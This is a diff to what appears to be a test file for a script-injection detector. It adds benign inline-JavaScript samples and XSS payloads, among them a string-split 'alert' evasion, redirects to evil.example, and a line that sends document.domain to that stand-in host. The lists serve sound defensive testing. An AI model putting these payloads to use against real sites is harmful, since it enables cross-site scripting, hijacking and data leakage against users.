@@ -491,6 +491,9 @@ PAGE_SHAPED = [
     "loadCSS('/css/app.css')",
     "refresh();setInterval(refresh, 30000)",  # a timer handed a function by name
     "window.setTimeout(showBanner)",
+    "javascript:initMenu();",  # the label old templates write
+    "window.scrollTo(0, 0)",
+    "this.style.height=this.contentWindow.document.body.scrollHeight+'px'",  # an iframe growing to fit
 ]
 PAYLOADS = [
     "alert(1)",
@@ -512,6 +515,11 @@ PAYLOADS = [
     "setTimeout(window.alert)",
     "window.print()",  # the XSS probe that replaced alert (a print view's body onload: below)
     "print()",
+    "javascript:alert(1)",
+    "window.open('//evil.example')",
+    "window['al'+'ert'](1)",
+    "window.location.assign('//evil.example')",
+    "this.src='//evil.example/?'+document.domain",
     "top.location='https://evil.example'",
     "location.href='//evil.example'",
     "fetch('/account/export')",
